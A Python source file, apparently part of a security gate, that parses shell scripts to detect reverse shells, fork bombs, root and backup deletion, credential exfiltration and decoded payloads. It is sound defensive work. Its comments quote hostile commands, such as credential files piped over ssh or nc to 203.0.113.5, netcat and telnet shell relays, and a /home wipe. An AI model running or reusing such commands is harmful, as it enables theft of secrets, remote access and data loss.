        name, arguments = _unwrapped(node, self.source)
        words = [word for word, _ in arguments]
        if " " in name and node.named_children:
            # `watch -n 60 'SCRIPT'`: a wrapper given one string runs it as a script
            self.string_script(node)
        if _command_name(node, self.source) == "flock":
            # `flock /tmp/lock -c 'SCRIPT'` runs the script like `sh -c`
            arguments = _arguments(node, self.source)
            words = [word for word, _ in arguments]
            name = "sh" if "-c" in words else name
        if name in _SHELLS and "-c" in words:
            index = words.index("-c")
            if index + 1 < len(arguments):
                self.nested(arguments[index + 1][0], arguments[index + 1][1])
        elif name == "eval" and arguments:
            self.nested(" ".join(words), arguments[0][1])
        elif name in _CODE_FLAGS and _CODE_FLAGS[name] in words:
            # `python3 -c 'os.system("...")'`, `perl -e 'system("...")'`: the command line the
            # one-line program hands to the shell is run too.
            index = words.index(_CODE_FLAGS[name])
            if index + 1 < len(arguments):
                code, holder = arguments[index + 1]
                if name.startswith("python") and _WALK_REMOVED.search(code):
                    # `python3 -c "[os.remove(...) for r, d, fs in os.walk('/home') ...]"`
                    self.hit(Capability.ROOT_DELETE, node)
                for match in _PROGRAM_SHELL_STRINGS.finditer(code):
                    self.nested(_ESCAPED.sub(r"\1", match.group(2)), holder, match.start(2))
        elif script := _handed_script(arguments):
            # `xargs -a /dev/null sh -c '...'`, `systemd-run --user bash -c '...'`: a runner
            # starts the shell it is given, so the shell's script is what runs.
            self.nested(*script)
        elif command := _command_argument(name, arguments):
            # `script -qc '...' /dev/null`, `cmd /c "..."`, `ssh host '...'`: the command line
            # the program runs (on another host, for ssh: the action is still this one's).
            # PowerShell's command is read for its commands only, and only when it names a
            # browser's store (a copy of `Login Data` is a read of it, `_reads_store`): the
            # patterns have read its text as part of this line, and walking every PowerShell
            # command (long one-liners, the gate's slowest) would add a third to their time.
            if name.lower() not in _POWERSHELLS:
                self.nested(*command)
            elif _is_store(command[0]):
                self.nested_commands(*command)
        runner = _stdin_runner(node, self.source)
        for child in node.children:
            if child.type == "herestring_redirect" and runner is not None:
                # `bash <<< '...'`, `at now <<< '...'`: the string is the script run.
                self.string_script(child, runner)
        if name == "rm" and self._recursive(words):
            if any(_system_root(w) for w in words):
                self.hit(Capability.ROOT_DELETE, node)
            elif any(_BACKUP_STORE.match(w) for w in words):
                # every backup deleted: what recovery needs, like shadow copies on Windows
                self.hit(Capability.SHADOW_DELETE, node)
        if "--no-preserve-root" in words:
            self.hit(Capability.ROOT_DELETE, node)
        if name == "find" and words and words[0] in _SYSTEM_ROOTS and "-delete" in words:
            self.hit(Capability.ROOT_DELETE, node)
        elif name == "find" and (destroyed := _found_and_destroyed(words)) is not None:
            self.hit(destroyed, node)
        if name == "touch" and _backdates_system_file(words):
            self.hit(Capability.SYSTEM_FILE_BACKDATED, node)
        if _injects_into_other_site(name, words):
            self.hit(Capability.EXPLOIT_RUN, node)
        if name in _STORE_READERS and _reads_store(name, words):
            self.hit(Capability.PASSWORD_QUERY, node)

    def string_script(self, holder: Node, runner: str = "script") -> None:
        """Read as scripts the strings `holder` carries (`printf`'s format and arguments are
        each printed, so each may be the script)."""
        for child in holder.children:
            if child.type in ("string", "raw_string", "word", "concatenation"):
                text = self.source[child.start_byte : child.end_byte].decode("utf-8", "replace")
                if " " in text:
                    self.fed(_word_value(text), child, runner)

    def fed(self, text: str, node: Node, runner: str) -> None:
        """Judge `text` as what `runner` does with it: a script run, or cron lines whose
        commands are run on their schedule."""
        if runner != "crontab":
            self.nested(text, node)
            return
        # (`printf '...\\n' | crontab -` prints its escapes as line breaks; same length kept)
        for line in _CRON_LINE.finditer(text.replace("\\n", " \n")):
            self.nested(line.group(1), node, line.start(1))

    def redirected(self, node: Node) -> None:
        """A heredoc fed to a shell or a scheduler (`at now + 1 minute <<EOF`) is its script;
        a secret fed to an upload to another host (`ssh 203.0.113.5 'cat > f' < ~/.aws/credentials`)
        is sent, as when piped (`_piped_to_another_host`)."""
        body = node.child_by_field_name("body")
        if body is None or body.type != "command":
            return
        if any(
            child.type == "file_redirect"
            and self._text(child).lstrip("0").startswith("<")
            and _reads_secret(self._text(child))
            for child in node.children
        ) and self._sends_to_address(body):
            self.hit(Capability.NET_SEND, body)
        runner = _stdin_runner(body, self.source)
        if runner is None:
            return
        for child in node.children:
            if child.type == "heredoc_redirect":
                for part in child.children:
                    if part.type == "heredoc_body":
                        text = self.source[part.start_byte : part.end_byte]
                        self.fed(text.decode("utf-8", "replace"), part, runner)

    @staticmethod
    def _recursive(words: list[str]) -> bool:
        return any(
            w == "--recursive"
            or (w.startswith("-") and not w.startswith("--") and ("r" in w or "R" in w))
            for w in words
        )

    def function(self, node: Node) -> None:
        name_node = node.child_by_field_name("name")
        body = node.child_by_field_name("body")
        if name_node is None or body is None:
            return
        name = self.source[name_node.start_byte : name_node.end_byte].decode("utf-8", "replace")
        body_text = self.source[body.start_byte : body.end_byte].decode("utf-8", "replace")
        calls_itself = name_written(
            body_text, name, before=r"(?<![\w-])", after=rf"\s*\|\s*{re.escape(name)}\b"
        )
        backgrounds_itself = name_written(body_text, name, before=r"(?<![\w-])", after=r"\s*&")
        if calls_itself or backgrounds_itself:
            self.hit(Capability.FORK_BOMB, node)

    def pipeline(self, node: Node) -> None:
        """A network client feeding a shell, or a shell feeding one: a relay over the network."""
        names: list[str] = []
        stages: list[Node] = []
        for child in node.children:
            # `nc host port 0</tmp/p | sh`, `mkfifo $F && telnet host port 0<$F | sh`: the
            # stage that feeds the pipe is the last command of a redirected list.
            while child.type in ("redirected_statement", "list"):
                if child.type == "redirected_statement":
                    inner = child.child_by_field_name("body")
                else:
                    inner = child.named_children[-1] if child.named_children else None
                if inner is None:
                    break
                child = inner
            if child.type == "command":
                names.append(_unwrapped(child, self.source)[0])
                stages.append(child)
        for index, name in enumerate(names):
            later = names[index + 1 :]
            feeds_shell = name in _NETWORK_CLIENTS and any(n in _INTERPRETERS for n in later)
            shell_out = name in (*_INTERPRETERS, "script") and any(
                n in _NETWORK_CLIENTS for n in later
            )
            if feeds_shell or shell_out:
                self.hit(Capability.DUP_FD, node)
                self.hit(Capability.SHELL, node)
                return
        self._minted_and_sent(names, stages)
        self._piped_to_another_host(names, stages)
        # `(crontab -l; echo '*/5 * * * * ...') | crontab -`: the lines printed inside the
        # group feeding the runner are its input too.
        runner = _stdin_runner(stages[-1], self.source) if stages else None
        if runner is not None:
            for child in node.children:
                if child.type in ("subshell", "compound_statement"):
                    self._printed_in(child, runner)
        # `echo '...' | at now`, `printf '%s\n' '...' | sh`: the printed text is the script run.
        if len(stages) >= 2 and names[0] in ("echo", "printf") and runner is not None:
            decoders = [_decoder(stage, self.source) for stage in stages[1:-1]]
            if not decoders:
                self.string_script(stages[0], runner)
            elif all(decoders) and runner == "script":
                self.decoded_scripts(stages[0], [d for d in decoders if d is not None])

    def _minted_and_sent(self, names: list[str], stages: list[Node]) -> None:
        """A new cloud or cluster secret piped straight into an upload (`az ad app credential
        reset ... | curl -d @- https://...`, `kubectl create token sa | nc host 443`): the secret
        read and sent away (`SECRET_FILE`), however its result is shaped on the way."""
        for index, name in enumerate(names[:-1]):
            if name not in _CREDENTIAL_MINTS:
                continue
            words = {word for word, _ in _unwrapped(stages[index], self.source)[1]}
            if not any(needed <= words for needed in _CREDENTIAL_MINTS[name]):
                continue
            for later, stage in zip(names[index + 1 :], stages[index + 1 :], strict=True):
                arguments = [word for word, _ in _unwrapped(stage, self.source)[1]]
                uploads = later in ("curl", "wget") and any(
                    _STDIN_BODY.search(word)
                    or (word in ("-", "/dev/stdin") and before in _UPLOAD_FILE_FLAGS)
                    or word == "--post-file=/dev/stdin"
                    for before, word in zip(["", *arguments], arguments, strict=False)
                )
                if uploads or later in ("nc", "ncat", "netcat", "socat"):
                    self.hit(Capability.SECRET_FILE, stages[index])
                    return

    def _piped_to_another_host(self, names: list[str], stages: list[Node]) -> None:
        """A later stage that sends what it reads on standard input to a host named only by its
        public address (`ssh 203.0.113.5 'cat > FILE'`, also after `sshpass -p PW`, `tee`,
        `dd of=`, `base64 -d >`; `nc 203.0.113.5 PORT`), fed by stages whose own arguments
        read a secret (`cat ~/.aws/credentials`, `tar czf - ~/.ssh`): the secret uploaded
        as by `scp` (`NET_SEND`). What the far side writes to is not read (a key put in place
        there is no secret read here); a host of one's own named by its name (`ssh jump 'cat >
        ~/.kube/config'`) is a copy between one's own machines, as `scp` to it is; a listener
        (`nc -l`) or a port check (`nc -z`) sends nothing."""
        for index in range(1, len(stages)):
            if self._sends_to_address(stages[index]) and any(
                _reads_secret(self._text(stage)) for stage in stages[:index]
            ):
                self.hit(Capability.NET_SEND, stages[index])
                return

    def _sends_to_address(self, stage: Node) -> bool:
        """Whether `stage` sends its standard input to a public address: `ssh ADDRESS 'cat >
        f'` (past `sshpass`), `nc ADDRESS PORT`."""
        name, arguments = _unwrapped(stage, self.source)
        if name == "sshpass":
            while arguments and arguments[0][0].startswith("-"):
                flag, arguments = arguments[0][0], arguments[1:]
                if flag in _SSHPASS_VALUED and arguments:
                    arguments = arguments[1:]
            if not arguments:
                return False
            name, arguments = arguments[0][0].rsplit("/", 1)[-1], arguments[1:]
        words = [word for word, _ in arguments]
        if name == "ssh":
            remote = _command_argument(name, arguments)
            if remote is None or _STDIN_TO_FILE.search(remote[0]) is None:
                return False
            host = _ssh_host(words)
            return host is not None and _PUBLIC_ADDRESS.fullmatch(host) is not None
        return (
            name in _RAW_SENDERS
            and not any(_LISTENS.match(word) for word in words)
            and any(_PUBLIC_ADDRESS.fullmatch(word) for word in words)
        )

    def _text(self, node: Node) -> str:
        return self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def _printed_in(self, group: Node, runner: str) -> None:
        """Feed `runner` the strings printed by `echo` or `printf` anywhere in `group`."""
        stack = [group]
        while stack:
            node = stack.pop()
            if node.type == "command" and _command_name(node, self.source) in ("echo", "printf"):
                self.string_script(node, runner)
            stack.extend(node.children)

    def decoded_scripts(self, holder: Node, decoders: list[Callable[[str], str]]) -> None:
        """Read what the printed strings of `holder` decode to as the script run, with every
        capability (the patterns never saw the decoded text): `echo '...' | rev | bash`."""
        from redline.redlines.code import code_hits

        if self.depth >= _INNERMOST:
            return
        for child in holder.children:
            if child.type in ("string", "raw_string", "word", "concatenation"):
                text = self.source[child.start_byte : child.end_byte].decode("utf-8", "replace")
                for decode in decoders:
                    text = decode(_word_value(text))
                if text:
                    start, end = self.position(child.start_byte), self.position(child.end_byte)
                    for hit in code_hits(text, CodeLanguage.BASH, 0, self.depth + 1):
                        self.hits.append(Hit(hit.capability, start, end, hit.text))
                    self.hits.append(
                        Hit(
                            Capability.ENCODED_EXEC,
                            start,
                            end,
                            self.text[start - self.offset : end - self.offset],
                        )
                    )

    def reference(self, node: Node) -> None:
        """Search and kill commands (`grep 'xmrig'`, `pkill -f minerd`): their arguments name
        a thing to find or stop, they are not run; unless a command in them is substituted
        (`grep "$(curl ... | sh)" f` runs it) or what the search prints is piped into a shell
        (`grep -h 'curl ... | sh' notes | sh` runs the lines found)."""
        if (
            self.ascii
            and _command_name(node, self.source) in _SEARCHERS
            and not _substitutes(node)
            and not _piped_to_shell(node, self.source)
        ):
            name = node.child_by_field_name("name")
            start = name.end_byte if name is not None else node.start_byte
            self.references.append((start, node.end_byte))

    def walk(self, root: Node) -> None:
        stack = [root]
        while stack:
            node = stack.pop()
            if node.type == "pipeline":
                self.pipeline(node)
            if node.type == "command":
                self.command(node)
                self.reference(node)
            elif node.type == "function_definition":
                self.function(node)
            elif node.type == "redirected_statement":
                self.redirected(node)
            stack.extend(node.children)


def shell_hits(script: str, offset: int = 0, depth: int = 0) -> list[Hit]:
    """Structural capabilities of a shell script (already cleaned of comments)."""
    return read_shell(script, offset, depth)[0]


def _substitutes(node: Node) -> bool:
    """Whether `node` holds a command or process substitution (`$(...)`, `` `...` ``, `<(...)`)."""
    stack = list(node.children)
    while stack:
        child = stack.pop()
        if child.type in ("command_substitution", "process_substitution"):
            return True
        stack.extend(child.children)
    return False


_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "source", "."})


def _piped_to_shell(node: Node, source: bytes) -> bool:
    """Whether `node` is a stage of a pipeline that a later stage runs as a shell (`| sh`)."""
    parent = node.parent
    if parent is None or parent.type != "pipeline":
        return False
    later = [c for c in parent.children if c.start_byte > node.start_byte and c.type == "command"]
    return any(_command_name(stage, source) in _SHELLS for stage in later)


_SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "pkill", "killall", "ps", "ag"})


def read_shell(
    script: str, offset: int = 0, depth: int = 0
) -> tuple[list[Hit], list[tuple[int, int]]]:
    """`shell_hits` of `script`, and the character spans (from the script's start) of the
    arguments of its search and kill commands, read from one parse."""
    tree = parse(script.encode("utf-8"), CodeLanguage.BASH)
    if tree is None:
        return [], []
    reader = _Reader(script, offset, depth)
    reader.walk(tree.root_node)
    return reader.hits, reader.references


def python_shell_hits(code: str, offset: int = 0, depth: int = 0) -> list[Hit]:
    """Structural capabilities of shell strings a Python program hands to the system."""
    hits: list[Hit] = []
    for match in _PYTHON_SHELL_STRINGS.finditer(code):
        hits.extend(shell_hits(match.group(2), offset + match.start(2), depth + 1))
    return hits


def _decoder(stage: Node, source: bytes) -> Callable[[str], str] | None:
    """How `stage` turns the text on its standard input into its output, when it is a decoder
    that hides a script in plain sight: `rev`, `xxd -r -p`, rot13 by `tr`."""
    name, arguments = _unwrapped(stage, source)
    words = [word for word, _ in arguments]
    if name == "rev" and not words:
        return lambda text: text[::-1]
    if name == "base64" and {"-d", "--decode", "-D"} & set(words):
        return _from_base64
    if name == "xxd" and "-r" in words and "-p" in words:
        return _from_hex
    if name == "tr" and len(words) == 2 and _rotates_letters(*words):
        return lambda text: codecs.decode(text, "rot13")
    return None


_VIEWERS = frozenset(
    {"cat", "less", "more", "xxd", "hexdump", "od", "strings", "file", "head", "tail"}
    | {"wc", "grep", "sha256sum", "md5sum", "sha1sum", "jq", "column", "fold"}
)
"""Commands that show or count what they read; none of them runs it."""
_SCRATCH_FOLDERS = ("/tmp/", "/var/tmp/")


def _kept_aside(stage: Node, source: bytes) -> bool:
    """Whether `stage` only shows what it reads, or keeps it with `tee` in a file of its own
    (`tee ioc.txt`, `tee /tmp/decoded.txt`): not in a startup or system place
    (`tee -a ~/.bashrc`, `tee /etc/cron.d/x`), where a later shell would run it."""
    name, arguments = _unwrapped(stage, source)
    if name != "tee":
        return name in _VIEWERS
    files = [word for word, _ in arguments if not word.startswith("-")]
    return all(
        (not word.startswith(("/", "~", "$")) or word.startswith(_SCRATCH_FOLDERS))
        and not word.rsplit("/", 1)[-1].startswith(".")
        for word in files
    )


def decoded_for_viewing(script: str) -> list[tuple[int, int]]:
    """The spans (from the script's start) of strings printed into a decoder whose output is
    only looked at or kept (`echo '...' | base64 -d | tee ioc.txt | cat -A`, `| xxd`): an
    indicator decoded to be read, in a script that runs no interpreter anywhere (nothing it
    writes is run later). Empty when any stage or command could run the decoded text."""
    if not script.isascii() or "base64" not in script:
        return []
    tree = parse(script.encode("utf-8"), CodeLanguage.BASH)
    if tree is None:
        return []
    source = script.encode("utf-8")
    spans: list[tuple[int, int]] = []
    stack = [tree.root_node]
    while stack:
        node = stack.pop()
        stack.extend(node.children)
        if node.type == "command":
            name = _unwrapped(node, source)[0]
            if name in _INTERPRETERS or name in _STDIN_RUNNERS or name in ("source", ".", "eval"):
                return []  # something here runs a script: the decoded text may be it
            continue
        if node.type != "pipeline":
            continue
        stages = [child for child in node.children if child.type == "command"]
        if len(stages) < 3 or len(stages) != len(node.named_children):
            continue
        if _command_name(stages[0], source) not in ("echo", "printf"):
            continue
        if _decoder(stages[1], source) is None:
            continue
        if all(_kept_aside(stage, source) for stage in stages[2:]):
            spans.append((stages[0].start_byte, stages[0].end_byte))
    return spans


@dataclass(frozen=True, slots=True)
class Word:
    """One word of a simple command: its value as the shell reads it (quotes removed, escapes
    undone; an expansion kept as written) and its character span in the text."""

    value: str
    start: int
    end: int


@dataclass(frozen=True, slots=True)
class SimpleCommand:
    """One simple command of a command line: its words (leading assignments `A=1`, its name,
    its arguments; not its redirections), its character span (its redirections included) and
    the pipeline it is a stage of (stages of one pipeline share the number; every other
    command has one of its own)."""

    words: tuple[Word, ...]
    start: int
    end: int
    pipeline: int


_WORD_NODES = frozenset(
    {
        "word",
        "string",
        "raw_string",
        "ansi_c_string",
        "translated_string",
        "concatenation",
        "number",
        "simple_expansion",
        "expansion",
        "arithmetic_expansion",
        "command_substitution",
        "process_substitution",
        "variable_assignment",
        "variable_name",
    }
)
"""The children of a tree-sitter command that are its words (its name's word included)."""
_COMMAND_NODES = frozenset(
    {
        "command",
        "declaration_command",
        "unset_command",
        "variable_assignment",
        "variable_assignments",
    }
)
"""Simple commands: a command, `export`/`local`/`declare`/`unset` with their operands, and one
or more assignments standing alone (`a=1; b=2 c=3`)."""


def _shell_word(raw: str) -> str:
    """The value the shell gives the word `raw` (`_word_value`, backslash escapes undone too);
    an unclosed quote runs to the word's end."""
    if "\\" not in raw:
        return _word_value(raw)
    try:
        parts = shlex.split(raw)
    except ValueError:
        return raw.lstrip("'\"")
    return parts[0] if len(parts) == 1 else raw


def _word_nodes(node: Node) -> list[Node]:
    """The nodes of the words of the simple command `node` (`_COMMAND_NODES`)."""
    if node.type == "variable_assignment":
        return [node]
    words = []
    for index, child in enumerate(node.children):
        if child.type == "command_name":
            words.extend(child.children[:1])
        elif child.type in _WORD_NODES or (index == 0 and node.type != "command"):
            words.append(child)  # (`export`, `local`, `unset`: the keyword is its name)
    return words


def _character_at(text: str, source: bytes) -> Callable[[int], int]:
    """Where in `text` the byte at an offset of `source` (`text` encoded) stands."""
    if len(source) == len(text):
        return int
    characters = [0] * (len(source) + 1)
    index = 0
    for number, character in enumerate(text):
        width = len(character.encode("utf-8", "surrogatepass"))
        characters[index : index + width] = [number] * width
        index += width
    characters[len(source)] = len(text)
    return characters.__getitem__


def variable_expansions(text: str) -> list[tuple[int, int, str]]:
    """The plain expansions of a variable the shell makes in `text` (`$a`, `${a}`; none in
    single quotes, comments or escaped), each with its character span and the variable's
    name, in the order they are written. Read from the parse `simple_commands` reads."""
    source = text.encode("utf-8", "surrogatepass")
    tree = parse(source, CodeLanguage.BASH)
    if tree is None:
        return []
    at = _character_at(text, source)
    found: list[tuple[int, int, str]] = []
    stack = [tree.root_node]
    while stack:
        node = stack.pop()
        if node.type in ("simple_expansion", "expansion"):
            named = node.named_children
            if len(named) == 1 and named[0].type == "variable_name" and node.child_count <= 3:
                name = source[named[0].start_byte : named[0].end_byte].decode("utf-8", "replace")
                found.append((at(node.start_byte), at(node.end_byte), name))
                continue
        stack.extend(reversed(node.children))
    return found


_REDIRECT_NODES = frozenset({"file_redirect", "herestring_redirect", "heredoc_redirect"})
_SUBSTITUTIONS = (b"$(", b"`", b"<(", b">(")
"""How a command substitution (or a process substitution) opens."""


def _extent(statement: Node, child: Node, body: Node | None) -> tuple[int, int]:
    """The span the redirections of a redirected `statement` give its `child`: all of it to
    the command it redirects, its end to a pipeline (whose last stage they redirect)."""
    if body is None or child.id != body.id:
        return -1, -1
    if child.type == "pipeline":
        return -1, statement.end_byte
    return statement.start_byte, statement.end_byte


def command_hits(text: str, capability: Capability, holds: Callable[[str, int], bool]) -> list[Hit]:
    """A hit of `capability` over each simple command of `text` (`simple_commands`, its
    trailing blanks left out) whose written text `holds` says holds it; `holds` is given that
    text and where it starts in `text`."""
    return first_reading_hits(text, ((capability, holds),))


def first_reading_hits(
    text: str,
    readings: Sequence[tuple[Capability, Callable[[str, int], bool]]],
    commands: Sequence[SimpleCommand] | None = None,
) -> list[Hit]:
    """`command_hits` for several readings in one walk of the commands (`commands`, when the
    caller has `simple_commands(text)` already): over each simple command, a hit of the
    capability of the first reading that says the command holds it."""
    hits: list[Hit] = []
    for command in simple_commands(text) if commands is None else commands:
        segment = text[command.start : command.end]
        for capability, holds in readings:
            if holds(segment, command.start):
                end = command.start + len(segment.rstrip())
                hits.append(Hit(capability, command.start, end, text[command.start : end]))
                break
    return hits


def simple_commands(text: str) -> list[SimpleCommand]:
    """The simple commands of a command line or a script (or a fragment of one), in the order
    they are written, read as bash reads them: separators (`;`, `&&`, `||`, `&`, `|`, line
    breaks) inside quotes or escaped separate nothing, a comment is no command, and the
    commands inside `$(...)`, backticks, subshells, groups, loops and functions are commands
    of their own (the command holding a substitution spans it too). Never raises: an unclosed
    quote takes the rest of the text as one word of the command before it. One tree-sitter
    parse (shared with the other readings of the same text) and one walk: linear in the text."""
    source = text.encode("utf-8", "surrogatepass")
    tree = parse(source, CodeLanguage.BASH)
    if tree is None:
        return []
    at = _character_at(text, source)
    # words hold commands of their own only where a substitution opens: without one, no word
    # is walked into (nor any word without parts)
    nested = any(opening in source for opening in _SUBSTITUTIONS)
    commands: list[SimpleCommand] = []
    pipelines = 0
    # (node, the pipeline whose stage it is or -1, -2 for a command's own part, and the span
    # its redirections give it, -1 for none: tree-sitter puts them around the command, or
    # around the pipeline it ends: in `a | b > log`, `> log` is b's); children pushed in
    # reverse, popped in the order they are written
    stack: list[tuple[Node, int, int, int]] = [(tree.root_node, -1, -1, -1)]
    while stack:
        node, pipeline, start, end = stack.pop()
        kind = node.type
        if kind in _COMMAND_NODES and pipeline != -2:
            words = tuple(
                Word(
                    _shell_word(source[w.start_byte : w.end_byte].decode("utf-8", "replace")),
                    at(w.start_byte),
                    at(w.end_byte),
                )
                for w in _word_nodes(node)
            )
            start = node.start_byte if start < 0 else start
            end = node.end_byte if end < 0 else end
            if pipeline < 0:
                pipeline, pipelines = pipelines, pipelines + 1
            commands.append(SimpleCommand(words, at(start), at(end), pipeline))
            # the commands inside its words (`$(...)`, backticks) are commands of their own
            if nested:
                stack.extend((child, -2, -1, -1) for child in reversed(node.named_children))
            continue
        if kind == "ERROR" and source[node.start_byte : node.start_byte + 1] in (b"'", b'"'):
            # an unclosed quote: the rest is one word of the command just before it
            raw = source[node.start_byte : node.end_byte].decode("utf-8", "replace")
            word = Word(raw[1:], at(node.start_byte), at(node.end_byte))
            last = commands[-1] if commands else None
            if last is not None and not text[last.end : word.start].strip():
                commands[-1] = SimpleCommand(
                    (*last.words, word), last.start, word.end, last.pipeline
                )
            else:
                commands.append(SimpleCommand((word,), word.start, word.end, pipelines))
                pipelines += 1
            continue
        children = node.named_children
        if kind == "redirected_statement":
            body = node.child_by_field_name("body")
            stack.extend(
                (child, pipeline, *_extent(node, child, body)) for child in reversed(children)
            )
            continue
        if kind == "pipeline":
            if pipeline < 0:  # (a pipeline redirected as a stage of another is that one)
                pipeline, pipelines = pipelines, pipelines + 1
            stages = [(child, pipeline, -1, -1) for child in children]
            if end >= 0 and stages:
                stages[-1] = (children[-1], pipeline, -1, end)
            stack.extend(reversed(stages))
            continue
        if (kind in _WORD_NODES or kind in _REDIRECT_NODES) and (
            not nested or node.named_child_count == 0
        ):
            continue
        stack.extend((child, -1, -1, -1) for child in reversed(children))
    return commands
